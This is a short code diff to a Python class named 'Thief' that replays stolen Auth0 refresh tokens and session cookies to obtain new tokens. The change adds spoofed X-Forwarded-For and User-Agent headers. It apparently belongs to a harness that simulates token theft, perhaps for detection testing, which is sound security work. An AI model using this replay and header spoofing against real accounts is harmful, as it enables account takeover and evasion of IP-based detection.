@@ -254,11 +254,15 @@ class Thief:
             "client_id": loot.client_id,
             "refresh_token": loot.refresh_token,
         }
+        here = {"X-Forwarded-For": THIEF.ip, "User-Agent": THIEF.agent}
         url = f"{self.base_url}/authorize?client_id={loot.client_id}&response_type=code&prompt=none"
-        cookie = {"Cookie": f"auth0={loot.cookie}"}
+        cookie = {"Cookie": f"auth0={loot.cookie}", **here}
         token_url = f"{self.base_url}/oauth/token"
         return [
-            (Trial("auth0", "refresh_token"), _request("POST", token_url, data=form)),
+            (
+                Trial("auth0", "refresh_token"),
+                _request("POST", token_url, data=form, headers=here),
+            ),
             (Trial("auth0", "auth0"), _request("GET", url, headers=cookie)),
         ]
 
